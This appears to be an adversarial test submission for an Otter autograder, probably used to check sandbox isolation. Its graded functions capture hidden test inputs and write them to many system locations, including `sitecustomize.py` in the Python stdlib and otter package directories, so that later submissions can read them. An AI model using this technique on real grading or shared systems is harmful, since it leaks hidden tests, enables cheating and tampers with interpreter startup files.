# ruff: noqa  # written as an attacker writes
"""Hidden inputs are written to every place outside that a later submission might read."""

# honest: q1
# %%
import os
import pathlib

import otter

grader = otter.Notebook()
seen = []


def square_mean(x):
    seen.append(list(map(float, x)))
    leave()
    return sum(float(v) ** 2 for v in x) / len(x)


def total(points):
    seen.append(points)
    leave()


def leave():
    text = "canary- " + repr(seen)
    for place in (
        "..",
        "../..",
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        "/run",
        "/",
        "/root",
        "/home",
        "/usr/lib/python3",
        "/etc",
        os.path.expanduser("~root"),
        "/proc/self",
        "/sys",
        os.path.dirname(os.__file__),
        os.path.dirname(otter.__file__ if hasattr(otter, "__file__") else "."),
    ):
        for name in ("stash", ".stash", "stash.py", "sitecustomize.py"):
            try:
                pathlib.Path(place, name).write_text(text)
            except OSError:
                pass


# %%
grader.check("q1")
grader.check("q7")
loot = ""
# %%otherwise
